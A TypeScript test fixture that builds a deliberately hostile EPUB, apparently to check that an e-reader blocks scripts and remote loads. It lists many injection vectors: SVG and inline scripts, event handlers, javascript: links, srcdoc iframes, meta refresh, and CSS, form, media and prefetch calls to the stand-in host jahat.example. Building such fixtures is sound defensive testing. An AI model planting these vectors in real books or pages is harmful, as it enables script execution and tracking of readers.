import { strToU8, zipSync } from 'fflate'

/** Where a book would send to or load from, if it could. */
export const elsewhere = 'http://jahat.example'

/** A book that tries everything a page could do to its reader. Each way that works sets `diretas` or asks elsewhere. */
export const hostileEpub = () =>
  zipSync({
    mimetype: [strToU8('application/epub+zip'), { level: 0 }],
    'META-INF/container.xml': strToU8(
      '<?xml version="1.0"?><container version="1.0" xmlns="urn:oasis:names:tc:opendocument:xmlns:container"><rootfiles><rootfile full-path="buku.opf" media-type="application/oebps-package+xml"/></rootfiles></container>',
    ),
    'buku.opf': strToU8(`<?xml version="1.0" encoding="UTF-8"?>
<package xmlns="http://www.idpf.org/2007/opf" version="3.0" unique-identifier="id"><metadata xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:identifier id="id">urn:uuid:0e9f5c1e-0000-4000-8000-000000000001</dc:identifier><dc:title>Buku Nakal</dc:title><dc:language>id</dc:language></metadata>
<manifest><item id="a" href="bab.xhtml" media-type="application/xhtml+xml"/><item id="gaya" href="gaya.css" media-type="text/css"/><item id="gambar" href="nakal.svg" media-type="image/svg+xml"/></manifest><spine><itemref idref="a"/></spine></package>`),
    'gaya.css': strToU8(`@import url("${elsewhere}/a.css");
body{background:url(${elsewhere}/b.png);behavior:url(${elsewhere}/c.htc)} p{list-style-image:u\\72l("${elsewhere}/d.png")}`),
    'nakal.svg': strToU8(
      '<svg xmlns="http://www.w3.org/2000/svg" onload="top.diretas=1"><script>parent.diretas=2</script></svg>',
    ),
    'bab.xhtml': strToU8(`<?xml version="1.0" encoding="UTF-8"?>
<html xmlns="http://www.w3.org/1999/xhtml"><head><title>Bab Nakal</title><link rel="stylesheet" href="gaya.css"/>
<meta http-equiv="refresh" content="0; url=${elsewhere}/e"/><base href="${elsewhere}/"/><script>window.diretas=3;parent.diretas=3</script></head>
<body onload="parent.diretas=4"><h1>Bab yang Nakal</h1><p id="tekan" onclick="parent.diretas=5">Tekan kalimat ini.</p>
<script src="${elsewhere}/f.js"></script><img src="${elsewhere}/g.png" alt="jauh"/><img src="nakal.svg" onerror="parent.diretas=6" alt="dekat"/>
<iframe src="${elsewhere}/h"></iframe><iframe srcdoc="&lt;script&gt;top.diretas=7&lt;/script&gt;"></iframe><object data="${elsewhere}/i"></object><embed src="${elsewhere}/j"/>
<svg xmlns="http://www.w3.org/2000/svg"><script>parent.diretas=8</script><a href="javascript:parent.diretas=9"><text>x</text></a><image href="${elsewhere}/k.png"/></svg>
<form action="${elsewhere}/l"><input name="a"/><button>Kirim</button></form><a href="javascript:parent.diretas=10" id="taut">Tautan</a>
<p style="background:url(${elsewhere}/m.png)">Kalimat terakhir.</p><video src="${elsewhere}/n.mp4" autoplay=""></video><link rel="prefetch" href="${elsewhere}/o"/></body></html>`),
  })
